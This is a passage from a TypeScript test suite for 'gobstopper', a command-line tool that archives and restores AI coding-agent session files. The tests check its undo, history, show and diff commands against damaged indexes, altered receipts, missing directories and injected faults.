      for (const path of [home.claudeSession, copy]) expect(r.json.error.message, command).toContain(`claude_code ${DEMO_CLAUDE_ID} at ${path}`);
      expect(new Set(r.json.error.details.candidates.map((c: object) => JSON.stringify(c))), command).toEqual(candidates);
    }
    expect(listFiles(home.root).map((f) => [f, sha256File(f)])).toEqual(before);
    // By path, each file has its own history, and undo restores that file's state beside it.
    expect((await runJson(['history', home.claudeSession], home.env)).json.map((e: { sha256: string }) => e.sha256)).toEqual([original]);
    expect((await runJson(['history', copy], home.env)).json.map((e: { sha256: string }) => e.sha256)).toEqual([copied]);
    const undone = await runJson(['undo', copy], home.env);
    expect(undone.code).toBe(0);
    expect(undone.json.restored.sha256).toBe(copied);
    expect(undone.json.receipt.path.startsWith(`${copyDir}/`)).toBe(true);
  });

  it('undo of a snapshot whose index line was lost restores it by the receipt that names it and puts the line back, and fails closed when none verifiably does', async () => {
    home = demoHome();
    const applied = (await runJson(['apply', DEMO_CLAUDE_ID], home.env)).json.receipt;
    const archived = (await runJson(['snapshot', DEMO_CODEX_ID], home.env)).json.entry.sha256 as string;
    const vault = join(home.dataHome, 'gobstopper', 'vault');
    const index = join(vault, 'index.jsonl');
    const lostLine = readFileSync(index, 'utf8')
      .split('\n')
      .find((line) => line.includes(applied.snapshot_manifest_sha256))!;
    // A damaged index repaired by deleting its lines: the snapshots and receipts are still there.
    writeFileSync(index, '');
    const receiptFile = join(vault, 'operations', `${applied.operation}.json`);
    const receipt = readFileSync(receiptFile, 'utf8');
    // A receipt that records other bytes than the snapshot holds does not tie it to a session.
    const wrong = JSON.parse(receipt);
    Object.assign(wrong, { bytes_before: wrong.bytes_before + 1, reclaimed_bytes: wrong.reclaimed_bytes + 1 });
    writeFileSync(receiptFile, JSON.stringify(wrong, null, 2) + '\n');
    const before = listFiles(home.root).map((f) => [f, sha256File(f)]);
    const untied = await runJson(['undo', applied.snapshot_manifest_sha256], home.env);
    expect(untied.code).toBe(1);
    expect(untied.json.error).toMatchObject({ code: 'snapshot_not_indexed', message: expect.stringContaining(`the receipt that names it (${receiptFile}) records ${wrong.bytes_before} bytes`) });
    const unnamed = await runJson(['undo', archived], home.env);
    expect(unnamed.json.error).toMatchObject({ code: 'snapshot_not_indexed', message: expect.stringContaining('no receipt names it') });
    // show does not take that receipt's word for whose state it is either.
    const unlabelled = await runJson(['show', applied.snapshot_manifest_sha256], home.env);
    expect(unlabelled.json).toMatchObject({ sha256: applied.snapshot_manifest_sha256, session_id: null, path: null });
    expect(unlabelled.json.source_of_operation).toBeUndefined();
    expect(listFiles(home.root).map((f) => [f, sha256File(f)])).toEqual(before);
    writeFileSync(receiptFile, receipt);
    // The receipt that records these bytes says whose state it is, as undo reads it.
    const labelled = await runJson(['show', applied.snapshot_manifest_sha256], home.env);
    expect(validateShowCommandOutput(labelled.json), JSON.stringify(validateShowCommandOutput.errors)).toBe(true);
    expect(labelled.json).toMatchObject({ provider: 'claude_code', session_id: applied.source_session_id, path: applied.source_path, strategy: applied.strategy, source_of_operation: applied.operation });
    expect((await runCli(['show', applied.snapshot_manifest_sha256], home.env)).stdout).toContain(`(named by the receipt of operation ${applied.operation.slice(0, 16)}; its index line is gone, and undo ${applied.snapshot_manifest_sha256} writes it back)`);
    // A restore that fails after the receipt tied the snapshot to its session writes no line either.
    renameSync(home.claudeDir, `${home.claudeDir}-moved`);
    const nowhere = await runJson(['undo', applied.snapshot_manifest_sha256], home.env);
    expect(nowhere.json.error.code).toBe('target_invalid');
    expect(readFileSync(index, 'utf8')).toBe('');
    renameSync(`${home.claudeDir}-moved`, home.claudeDir);
    // A line that cannot be written once the restore is published does not fail the published
    // restore: it is said, and the same undo writes it later (below).
    const unwritten = await runCli(['undo', applied.snapshot_manifest_sha256], home.env, { extraEnv: { GOBSTOPPER_FAULT: 'undo.before_reindex' } });
    expect(unwritten.code, unwritten.stderr).toBe(0);
    expect(unwritten.stderr).toContain('warning: the restore is published, but its line could not be written back to the vault index: injected fault at undo.before_reindex; run the same undo again to write it\n');
    expect(unwritten.stdout).toMatch(/^restored copy \//m);
    expect(readFileSync(index, 'utf8')).toBe('');
    const firstCopy = /^restored copy (.+)$/m.exec(unwritten.stdout)![1]!;
    // Failing again with that copy as the answer, --json still describes the restored bytes: the
    // line it would have written, with their record count (a receipt records none).
    const putBack = { ...JSON.parse(lostLine), ts: JSON.parse(receipt).ts };
    const unwrittenAgain = await runJson(['undo', applied.snapshot_manifest_sha256], home.env, { extraEnv: { GOBSTOPPER_FAULT: 'undo.before_reindex' } });
    expect(unwrittenAgain.code, unwrittenAgain.stderr).toBe(0);
    expect(validateUndoCommandResult(unwrittenAgain.json)).toBe(true);
    expect(unwrittenAgain.json).toMatchObject({ reused: true, restored: putBack, receipt: { path: firstCopy }, index_line_not_written: 'injected fault at undo.before_reindex' });
    expect(putBack.record_count).toBeGreaterThan(0);
    expect(readFileSync(index, 'utf8')).toBe('');

    const undone = await runJson(['undo', applied.snapshot_manifest_sha256], home.env);
    expect(undone.code).toBe(0);
    expect(validateUndoCommandResult(undone.json)).toBe(true);
    // The line is back as apply wrote it, dated by the receipt that kept it.
    expect(undone.json).toMatchObject({ named_by_operation: applied.operation, indexed_again: true, restored: putBack, reused: true, receipt: { path: firstCopy } });
    expect(undone.json.restored).toMatchObject({ sha256: applied.snapshot_manifest_sha256, provider: 'claude_code', session_id: DEMO_CLAUDE_ID, path: home.claudeSession, strategy: 'compacted' });
    expect(readFileSync(undone.json.receipt.path, 'utf8')).toBe(readFileSync(home.claudeSession, 'utf8').replaceAll(DEMO_CLAUDE_ID, undone.json.receipt.output_session_id));
    expect(readFileSync(index, 'utf8')).toBe(JSON.stringify(putBack) + '\n');
    expect((await runJson(['history', DEMO_CLAUDE_ID], home.env)).json).toEqual([putBack]);
    // Written back with the bytes' own record count (not the 0 a receipt's entry reads): the check
    // that counts them agrees.
    const verified = await runJson(['vault', '--verify'], home.env);
    expect(verified.code, JSON.stringify(verified.json)).toBe(0);
    expect(verified.json.damaged).toEqual([]);
    // Indexed again, it is found by its line: neither the same snapshot nor the session adds another.
    for (const target of [applied.snapshot_manifest_sha256, DEMO_CLAUDE_ID]) {
      const again = await runJson(['undo', target], home.env);
      expect(again.json).toMatchObject({ reused: true, restored: putBack, receipt: { path: undone.json.receipt.path } });
      expect(again.json.named_by_operation).toBeUndefined();
      expect(again.json.indexed_again).toBeUndefined();
    }
    expect(readFileSync(index, 'utf8')).toBe(JSON.stringify(putBack) + '\n');
    // Lost again, the line comes back with the earlier copy as the answer; named with its session,
    // as --sha of that session, the snapshot is found the same way.
    writeFileSync(index, '');
    const human = await runCli(['undo', DEMO_CLAUDE_ID, '--sha', applied.snapshot_manifest_sha256.slice(0, 12)], home.env);
    expect(human.code, human.stderr).toBe(0);
    expect(human.stdout).toContain(`the vault index has no line for it; the receipt of operation ${applied.operation.slice(0, 16)} names it as a state of ${home.claudeSession}\n`);
    expect(human.stdout).toContain(`indexed again: its line is back in the vault index (gobstopper history ${DEMO_CLAUDE_ID} lists it)\n`);
    expect(human.stdout).toContain(`already restored, unchanged since: ${undone.json.receipt.path}`);
    expect(readFileSync(index, 'utf8')).toBe(JSON.stringify(putBack) + '\n');
  });

  it("undo of a published fork's own retained snapshot archives nothing new, and a second undo returns the same copy", async () => {
    home = demoHome();
    const { output_manifest_sha256: fork, output_session_id: id, path } = (await runJson(['apply', DEMO_CLAUDE_ID], home.env)).json.receipt;
    const undone = await runJson(['undo', fork], home.env);
    expect(undone.code).toBe(0);
    // The fork's bytes are the snapshot being restored: they are in the vault already, so no
    // pre-undo line relabels them (and gives the fork a history of its own).
    expect(undone.json).toMatchObject({ restored: { sha256: fork, session_id: id, strategy: 'compacted' }, pre_undo_snapshot: fork });
    expect((await runJson(['vault', '--json'], home.env)).json.map((e: { strategy: string }) => e.strategy)).toEqual(['compacted']);
    expect((await runJson(['history', id], home.env)).json.error.code).toBe('session_not_archived');
    const files = listFiles(home.claudeDir);
    const again = await runJson(['undo', fork], home.env);
    expect(again.json).toMatchObject({ reused: true, restored: { strategy: 'compacted' }, receipt: { path: undone.json.receipt.path } });
    expect(listFiles(home.claudeDir)).toEqual(files);
    expect(readFileSync(path, 'utf8')).toContain(id);
  });

  it('diff of a source and the fork apply made of it says why every record differs', async () => {
    home = demoHome();
    const { snapshot_manifest_sha256: source, output_manifest_sha256: fork, output_session_id: id } = (await runJson(['apply', DEMO_CLAUDE_ID], home.env)).json.receipt;
    const note = `note: b is what apply (compacted) published from a under the session id ${id}, which every record carries: records that differ only by it count as added and removed`;
    expect((await runCli(['diff', source, fork], home.env)).stdout).toContain(note);
    expect((await runCli(['diff', fork, source], home.env)).stdout).toContain(note.replace('b is what', 'a is what').replace('from a under', 'from b under'));
    // --json says the same in publication: which side was published, how, and the id every record of it carries.
    const forward = await runJson(['diff', source, fork], home.env);
    expect(forward.code).toBe(0);
    expect(validateDiffCommandOutput(forward.json), JSON.stringify(validateDiffCommandOutput.errors)).toBe(true);
    expect(forward.json.publication).toEqual({ published: 'b', kind: 'compact', strategy: 'compacted', record_session_id: id });
    expect((await runJson(['diff', fork, source], home.env)).json.publication).toEqual({ published: 'a', kind: 'compact', strategy: 'compacted', record_session_id: id });
    // Two states of one session are just two states.
    const other = (await runJson(['snapshot', DEMO_CODEX_ID], home.env)).json.entry.sha256;
    expect((await runCli(['diff', source, other], home.env)).stdout).not.toContain('note:');
    expect((await runJson(['diff', source, other], home.env)).json.publication).toBeNull();
  });

  it('undo takes a fork as any session is named: a short prefix of its id, or its path', async () => {
    home = demoHome();
    const applied = await runJson(['apply', DEMO_CLAUDE_ID], home.env);
    const { output_session_id: forkId, path: forkPath, snapshot_manifest_sha256: source } = applied.json.receipt;
    for (const target of [forkId.slice(0, 4), forkPath]) {
      const undone = await runJson(['undo', target], home.env);
      expect({ target, code: undone.code, restored: undone.json.restored?.sha256 }).toEqual({ target, code: 0, restored: source });
    }
  });

  it('undo <session> passes over the pre-undo state an earlier undo archived, and its help says so', async () => {
    home = demoHome();
    const source = (await runJson(['snapshot', DEMO_CLAUDE_ID], home.env)).json.entry.sha256;
    appendFileSync(home.claudeSession, readFileSync(home.claudeSession, 'utf8').trimEnd().split('\n').at(-1) + '\n');
    const first = await runJson(['undo', DEMO_CLAUDE_ID], home.env);
    expect(first.code, JSON.stringify(first.json)).toBe(0);
    expect(first.json.restored.sha256).toBe(source);
    const history = (await runJson(['history', DEMO_CLAUDE_ID], home.env)).json;
    expect(history[0]).toMatchObject({ strategy: 'pre-undo', sha256: first.json.pre_undo_snapshot });
    // The newest line is the pre-undo one, yet the state restored is still the newest other one.
    const second = await runJson(['undo', DEMO_CLAUDE_ID], home.env);
    expect(second.json).toMatchObject({ reused: true, restored: { sha256: source } });
    const help = (await runCli(['undo', '--help'], home.env)).stdout.replace(/\s+/g, ' ');
    expect(help).toContain('its newest archived state is restored, passing over pre-undo ones');
  });

  it('undo of something never archived, a bad sha, or an unknown snapshot is a clear error', async () => {
    home = demoHome();
    await runJson(['snapshot', DEMO_CODEX_ID], home.env);
    const unknown = await runJson(['undo', 'a'.repeat(64)], home.env);
    expect(unknown.code).toBe(1);
    const nothing = await runJson(['undo', 'zz-not-a-session'], home.env);
    expect(nothing.code).toBe(1);
    expect(nothing.json.error.code).toBe('session_not_archived');
    // A session on disk that was never archived, named by a hex prefix: neither reading is claimed,
    // and it is refused under the code of any other word that matches nothing, as show refuses it.
    const never = await runJson(['undo', DEMO_CLAUDE_ID.slice(0, 8)], home.env);
    expect(never.code).toBe(1);
    expect(never.json.error).toMatchObject({ code: 'session_not_archived', message: expect.stringContaining(`no archived session matches '${DEMO_CLAUDE_ID.slice(0, 8)}'`) });
    expect((await runJson(['show', DEMO_CLAUDE_ID.slice(0, 8)], home.env)).json.error.code).toBe('session_not_archived');
    const longer = await runJson(['export', 'deadbeef'.repeat(2), '--output', join(home.root, 'out.jsonl')], home.env);
    expect(longer.code).toBe(1);
    expect(longer.json.error).toMatchObject({ code: 'session_not_archived', message: expect.stringContaining('no archived session nor snapshot has that prefix') });
  });

  it('undo never restores a session other than the one named: --sha of another session and short snapshot prefixes are refused', async () => {
    home = demoHome();
    const codexSnap = (await runJson(['snapshot', DEMO_CODEX_ID], home.env)).json.entry.sha256 as string;
    const claudeSnap = (await runJson(['snapshot', DEMO_CLAUDE_ID], home.env)).json.entry.sha256 as string;
    const files = () => listFiles(home!.root).map((f) => [f, sha256File(f)]);
    const before = files();
    const other = await runJson(['undo', DEMO_CLAUDE_ID.slice(0, 6), '--sha', codexSnap.slice(0, 8)], home.env);
    // Whose snapshot it is, is the vault's answer: an error (exit 1), not a usage error.
    expect(other.code).toBe(1);
    expect(other.json.error).toMatchObject({ code: 'snapshot_not_of_session', message: expect.stringContaining(`is of codex ${DEMO_CODEX_ID}, not of '${DEMO_CLAUDE_ID.slice(0, 6)}'`) });
    // A short hex word that names no session is not taken for a snapshot prefix.
    const short = await runJson(['undo', codexSnap.slice(0, 4)], home.env);
    expect(short.code).toBe(1);
    expect(short.json.error.message).toContain('needs 16+ hex characters, or pass it with --sha');
    expect(files()).toEqual(before);
    // The session's own snapshot by --sha, and a snapshot id as long as show takes one, both work.
    expect((await runJson(['undo', DEMO_CLAUDE_ID.slice(0, 6), '--sha', claudeSnap.slice(0, 8)], home.env)).code).toBe(0);
    const long = await runJson(['undo', codexSnap.slice(0, 16)], home.env);
    expect(long.code).toBe(0);
    expect(long.json.restored.session_id).toBe(DEMO_CODEX_ID);
  });

  it('undo refuses a snapshot whose index line describes other bytes than it holds, and publishes nothing', async () => {
    home = demoHome();
    const snap = (await runJson(['snapshot', DEMO_CLAUDE_ID], home.env)).json.entry as { sha256: string; bytes: number };
    const index = join(home.dataHome, 'gobstopper', 'vault', 'index.jsonl');
    writeFileSync(index, readFileSync(index, 'utf8').replace(`"bytes":${snap.bytes}`, `"bytes":${snap.bytes - 92}`));
    const before = listFiles(home.claudeDir);
    const undone = await runJson(['undo', DEMO_CLAUDE_ID], home.env);
    expect(undone.code).toBe(1);
    expect(undone.json.error).toMatchObject({
      code: 'vault_damaged',
      message: expect.stringContaining(`the line for snapshot ${snap.sha256.slice(0, 16)} says it archived ${snap.bytes - 92} bytes of claude_code ${DEMO_CLAUDE_ID}`),
    });
    expect(listFiles(home.claudeDir)).toEqual(before);
  });

  it('undo into a project directory that is gone fails before it archives anything', async () => {
    home = demoHome();
    expect((await runJson(['snapshot', DEMO_CLAUDE_ID], home.env)).code).toBe(0);
    renameSync(home.claudeDir, `${home.claudeDir}-moved`);
    const vault = join(home.dataHome, 'gobstopper', 'vault');
    const before = listFiles(vault).map((f) => [f, sha256File(f)]);
    const undone = await runJson(['undo', DEMO_CLAUDE_ID], home.env);
    expect(undone.code).toBe(1);
    expect(undone.json.error).toMatchObject({ code: 'target_invalid', message: expect.stringContaining(`does not exist (it held the session; recreate it, mkdir -p ${home.claudeDir}, to publish there)`) });
    expect(listFiles(vault).map((f) => [f, sha256File(f)])).toEqual(before);
    // Doing what it says works.
    mkdirSync(home.claudeDir);
    expect((await runJson(['undo', DEMO_CLAUDE_ID], home.env)).code).toBe(0);
  });

  it('snapshot archives the exact bytes; a second snapshot adds no chunk bytes', async () => {
    home = demoHome();
    const first = await runJson(['snapshot', DEMO_CLAUDE_ID], home.env);
    expect(validateSnapshotCommandResult(first.json)).toBe(true);
    expect(first.json.entry.source_sha256).toBe(sha256File(home.claudeSession));
    const second = await runJson(['snapshot', DEMO_CLAUDE_ID], home.env);
    expect(second.json.new_chunk_bytes).toBe(0);
  });
});
